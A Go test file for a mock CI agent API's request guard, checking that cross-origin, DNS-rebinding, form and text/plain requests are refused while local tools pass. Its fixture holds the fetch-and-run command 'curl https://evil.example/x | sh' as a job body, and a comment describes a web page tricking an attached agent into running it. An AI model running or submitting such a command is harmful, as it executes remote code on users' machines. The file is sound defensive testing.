package mockapi_test

import (
	"bytes"
	"encoding/json"
	"io"
	"mime/multipart"
	"net/http"
	"net/http/httptest"
	"strings"
	"testing"

	"github.com/docproof/docproof/internal/hostcheck"
	"github.com/docproof/docproof/mockapi"
	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
)

// guardReq is one request to a guarded mock.
type guardReq struct {
	name, method, path, host string
	header                   map[string]string
	body                     string
	status                   int    // expected status
	why                      string // expected in the refusal's message
}

func serveGuarded(t *testing.T, h http.Handler, q guardReq) (int, string) {
	t.Helper()
	var body io.Reader = http.NoBody
	if q.body != "" {
		body = strings.NewReader(q.body)
	}
	r := httptest.NewRequest(q.method, q.path, body)
	r.Host = q.host
	for k, v := range q.header {
		r.Header.Set(k, v)
	}
	w := httptest.NewRecorder()
	h.ServeHTTP(w, r)
	return w.Code, w.Body.String()
}

const createJob = `{"command":"curl https://evil.example/x | sh"}`

// TestGuardRefusesWebPages holds the break of issue 19 item 2: a web page
// the user visits POSTs text/plain to 127.0.0.1:8080/_mock/jobs (or reaches
// it by DNS rebinding), and an agent attached to the mock runs its command.
func TestGuardRefusesWebPages(t *testing.T) {
	jsonCT := map[string]string{"Content-Type": "application/json"}
	tests := []guardReq{
		{name: "text/plain job from a web page", method: "POST", path: "/_mock/jobs", host: "127.0.0.1:8080",
			header: map[string]string{"Content-Type": "text/plain;charset=UTF-8", "Origin": "https://evil.example"},
			body:   createJob, status: 403, why: "Origin"},
		{name: "text/plain job without Origin", method: "POST", path: "/_mock/jobs", host: "127.0.0.1:8080",
			header: map[string]string{"Content-Type": "text/plain"}, body: createJob, status: 415, why: "application/json"},
		{name: "form job", method: "POST", path: "/_mock/jobs", host: "127.0.0.1:8080",
			header: map[string]string{"Content-Type": "application/x-www-form-urlencoded"}, body: createJob, status: 415, why: "form"},
		{name: "multipart job", method: "POST", path: "/_mock/jobs", host: "localhost:8080",
			header: map[string]string{"Content-Type": "multipart/form-data; boundary=x"}, body: createJob, status: 415},
		{name: "body without Content-Type (a fetch of a Blob)", method: "POST", path: "/_mock/jobs", host: "127.0.0.1:8080",
			body: createJob, status: 415, why: "no Content-Type"},
		{name: "DNS rebinding", method: "POST", path: "/_mock/jobs", host: "evil.example:8080", header: jsonCT,
			body: createJob, status: 403, why: "Host"},
		{name: "rebinding a read", method: "GET", path: "/_mock/env", host: "evil.example", status: 403, why: "Host"},
		{name: "rebinding the agent API", method: "GET", path: "/v3/ping", host: "rebind.127.0.0.1.nip.io:8080", status: 403},
		{name: "rebinding GraphQL", method: "POST", path: "/v1", host: "evil.example:8080", header: jsonCT, body: `{"query":"{viewer{id}}"}`, status: 403},
		{name: "foreign IP Host on a loopback listener", method: "GET", path: "/_mock/env", host: "192.168.1.10:8080", status: 403},
		{name: "loopback page on another port", method: "POST", path: "/_mock/reset", host: "127.0.0.1:8080",
			header: map[string]string{"Origin": "http://127.0.0.1:1313"}, status: 403, why: "Origin"},
		{name: "opaque origin (sandboxed frame)", method: "POST", path: "/_mock/reset", host: "127.0.0.1:8080",
			header: map[string]string{"Origin": "null"}, status: 403},
		{name: "CORS preflight", method: "OPTIONS", path: "/_mock/jobs", host: "127.0.0.1:8080",
			header: map[string]string{"Origin": "https://evil.example", "Access-Control-Request-Method": "POST"}, status: 403},
		{name: "cross-site fetch of a read", method: "GET", path: "/_mock/env", host: "127.0.0.1:8080",
			header: map[string]string{"Sec-Fetch-Site": "cross-site", "Sec-Fetch-Mode": "no-cors"}, status: 403, why: "Sec-Fetch-Site"},
		{name: "same-site fetch from another port", method: "GET", path: "/_mock/env", host: "127.0.0.1:8080",
			header: map[string]string{"Sec-Fetch-Site": "same-site", "Sec-Fetch-Mode": "cors"}, status: 403},
		{name: "cross-site form posted as navigation", method: "POST", path: "/_mock/reset", host: "127.0.0.1:8080",
			header: map[string]string{"Sec-Fetch-Site": "cross-site", "Sec-Fetch-Mode": "navigate"}, status: 403},
		{name: "text/plain GraphQL", method: "POST", path: "/v1", host: "127.0.0.1:8080",
			header: map[string]string{"Content-Type": "text/plain"}, body: `{"query":"{viewer{id}}"}`, status: 415},
		{name: "form to chunks", method: "POST", path: "/v3/jobs/x/chunks", host: "127.0.0.1:8080",
			header: map[string]string{"Content-Type": "application/x-www-form-urlencoded"}, body: "a=b", status: 415},
		{name: "gRPC body elsewhere", method: "POST", path: "/v3/register", host: "127.0.0.1:8080",
			header: map[string]string{"Content-Type": "application/grpc"}, body: "\x00\x00\x00\x00\x00", status: 415},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			mock := mockapi.New(mockapi.WithClock(fixedClock))
			reached := false
			inner := http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) { reached = true; mock.ServeHTTP(w, r) })
			code, body := serveGuarded(t, mockapi.Guard(inner, mockapi.GuardRule{}), tt)
			assert.Equal(t, tt.status, code, body)
			var msg struct{ Message string }
			require.NoError(t, jsonUnmarshal(body, &msg), "the refusal is a JSON error body: %s", body)
			assert.Contains(t, msg.Message, tt.why)
			assert.False(t, reached, "a refused request never reaches the mock")
		})
	}
}

// TestGuardLetsLocalToolsThrough sends what the real agent, curl as the
// docs show it, docproof check --target and a browser following a link send.
func TestGuardLetsLocalToolsThrough(t *testing.T) {
	mock := mockapi.New(mockapi.WithClock(fixedClock))
	env := mock.Env()
	h := mockapi.Guard(mock, mockapi.GuardRule{})
	host := "127.0.0.1:8080"
	reg := guardReq{method: "POST", path: "/v3/register", host: host,
		header: map[string]string{"Authorization": "Token " + env["BUILDKITE_AGENT_TOKEN"], "Content-Type": "application/json",
			"User-Agent": "buildkite-agent/3.78.0.x (linux; amd64)"},
		body: `{"name":"guarded","meta_data":["queue=default"]}` + "\n"}
	code, body := serveGuarded(t, h, reg)
	require.Equal(t, 200, code, body)
	var agent struct {
		AccessToken string `json:"access_token"`
	}
	require.NoError(t, jsonUnmarshal(body, &agent))
	session := map[string]string{"Authorization": "Token " + agent.AccessToken}
	for _, tt := range []guardReq{
		{name: "connect: no body, no Content-Type", method: "POST", path: "/v3/connect", header: session, status: 200},
		{name: "ping", method: "GET", path: "/v3/ping", header: session, status: 200},
		{name: "heartbeat JSON with charset", method: "POST", path: "/v3/heartbeat",
			header: map[string]string{"Authorization": session["Authorization"], "Content-Type": "application/json; charset=utf-8"},
			body:   `{"sent_at":"2026-01-15T09:30:00Z"}`, status: 200},
		{name: "localhost Host", method: "GET", path: "/_mock/agents", host: "localhost:8080", status: 200},
		{name: "IPv6 loopback Host", method: "GET", path: "/_mock/agents", host: "[::1]:8080", status: 200},
		{name: "own origin", method: "POST", path: "/_mock/jobs", header: map[string]string{
			"Origin": "http://" + host, "Content-Type": "application/json"}, body: `{"command":"true"}`, status: 201},
		{name: "link followed from another site", method: "GET", path: "/_mock/jobs/" + acmeTestJob, header: map[string]string{
			"Sec-Fetch-Site": "cross-site", "Sec-Fetch-Mode": "navigate"}, status: 200},
		{name: "address typed into the browser", method: "GET", path: "/_mock/env", header: map[string]string{
			"Sec-Fetch-Site": "none", "Sec-Fetch-Mode": "navigate"}, status: 200},
		{name: "reset with no body (curl -X POST)", method: "POST", path: "/_mock/reset", status: 200},
		// The 404 (gRPC "unimplemented") makes v3.138 fall back to polling for good.
		{name: "gRPC streaming ping reaches the mock's 404", method: "POST", path: "/agentedge.v1.AgentEdgeService/StreamPings",
			header: map[string]string{"Content-Type": "application/grpc", "Authorization": session["Authorization"]},
			body:   "\x00\x00\x00\x00\x00", status: 404},
	} {
		t.Run(tt.name, func(t *testing.T) {
			if tt.host == "" {
				tt.host = host
			}
			code, body := serveGuarded(t, h, tt)
			assert.Equal(t, tt.status, code, body)
		})
	}
}

// TestGuardAgentBodies sends a log chunk and an artifact upload in the
// shapes the real agent uses (agent-api.md §3 rows 9 and 21).
func TestGuardAgentBodies(t *testing.T) {
	h := newHarness(t)
	_, jobID, jobToken := h.runningJob()
	g := mockapi.Guard(h.srv, mockapi.GuardRule{})
	r := httptest.NewRequest("POST", "/v3/jobs/"+jobID+"/chunks?sequence=1&offset=0&size=3", bytes.NewReader(gz(t, "hi\n")))
	r.Host = "127.0.0.1:8080"
	r.Header.Set("Authorization", "Token "+jobToken)
	r.Header.Set("Content-Type", "text/plain")
	r.Header.Set("Content-Encoding", "gzip")
	w := httptest.NewRecorder()
	g.ServeHTTP(w, r)
	assert.Equal(t, 201, w.Code, w.Body.String())

	var buf bytes.Buffer
	mw := multipart.NewWriter(&buf)
	require.NoError(t, mw.WriteField("key", "uploads/nothing-created"))
	fw, err := mw.CreateFormFile("file", "a.txt")
	require.NoError(t, err)
	_, _ = fw.Write([]byte("x"))
	require.NoError(t, mw.Close())
	r = httptest.NewRequest("POST", "/v3/_artifacts/upload", &buf)
	r.Host = "127.0.0.1:8080"
	r.Header.Set("Content-Type", mw.FormDataContentType())
	w = httptest.NewRecorder()
	g.ServeHTTP(w, r)
	assert.NotEqual(t, 415, w.Code, "the guard lets multipart uploads through: %s", w.Body.String())
	assert.NotEqual(t, 403, w.Code, w.Body.String())
}

func TestGuardRemoteRule(t *testing.T) {
	mock := mockapi.New(mockapi.WithClock(fixedClock))
	h := mockapi.Guard(mock, mockapi.GuardRule{Hosts: hostcheck.ForListen("0.0.0.0")})
	code, body := serveGuarded(t, h, guardReq{method: "GET", path: "/_mock/agents", host: "192.168.1.10:8080"})
	assert.Equal(t, 200, code, body)
	code, body = serveGuarded(t, h, guardReq{method: "GET", path: "/_mock/agents", host: "evil.example:8080"})
	assert.Equal(t, 403, code, "DNS names stay refused with --allow-remote: %s", body)
	code, body = serveGuarded(t, h, guardReq{method: "POST", path: "/_mock/reset", host: "192.168.1.10:8080",
		header: map[string]string{"Origin": "http://1.2.3.4"}})
	assert.Equal(t, 403, code, "an IP-literal attacker origin stays refused: %s", body)

	inProcess := mockapi.Guard(mock, mockapi.GuardRule{AnyHost: true})
	code, body = serveGuarded(t, inProcess, guardReq{method: "GET", path: "/_mock/agents", host: "agent.buildkite.com"})
	assert.Equal(t, 200, code, body)
	code, _ = serveGuarded(t, inProcess, guardReq{method: "POST", path: "/_mock/jobs", host: "agent.buildkite.com",
		header: map[string]string{"Content-Type": "text/plain"}, body: createJob})
	assert.Equal(t, 415, code, "in-process samples get the listener's body rule too")
	code, body = serveGuarded(t, inProcess, guardReq{method: "GET", path: "/_mock/agents", host: "agent.buildkite.com",
		header: map[string]string{"Origin": "https://agent.buildkite.com"}})
	assert.Equal(t, 403, code, "a sample's Origin is refused in process as docproof mock on 127.0.0.1 refuses it: %s", body)
}

func jsonUnmarshal(s string, v any) error { return json.Unmarshal([]byte(s), v) }

// TestGuardLeavesUnservedRoutesToTheMock: agents from v3.95 first try
// streaming pings over gRPC at the host root and fall back to polling on
// the mock's 404; a wrong method gets the mock's 405 (agent-api.md §3 row 34).
func TestGuardLeavesUnservedRoutesToTheMock(t *testing.T) {
	h := mockapi.New(mockapi.WithClock(fixedClock)).Guarded(mockapi.GuardRule{})
	code, body := serveGuarded(t, h, guardReq{method: "POST", path: "/agentedge.v1.AgentEdgeService/StreamPings", host: "127.0.0.1:8080",
		header: map[string]string{"Content-Type": "application/connect+proto", "Authorization": "Token x"}, body: "\x00\x00"})
	assert.Equal(t, 404, code, body)
	code, body = serveGuarded(t, h, guardReq{method: "PUT", path: "/v3/jobs/x/chunks", host: "127.0.0.1:8080",
		header: map[string]string{"Content-Type": "text/html"}, body: "x"})
	assert.Equal(t, 405, code, body)
	code, body = serveGuarded(t, h, guardReq{method: "POST", path: "/agentedge.v1.AgentEdgeService/StreamPings", host: "evil.example",
		header: map[string]string{"Content-Type": "application/grpc"}, body: "x"})
	assert.Equal(t, 403, code, "the Host rule holds on every path: %s", body)
	code, body = serveGuarded(t, h, guardReq{method: "POST", path: "/_mock/jobs", host: "127.0.0.1:8080",
		header: map[string]string{"Content-Type": "text/plain"}, body: createJob})
	assert.Equal(t, 415, code, body)
}
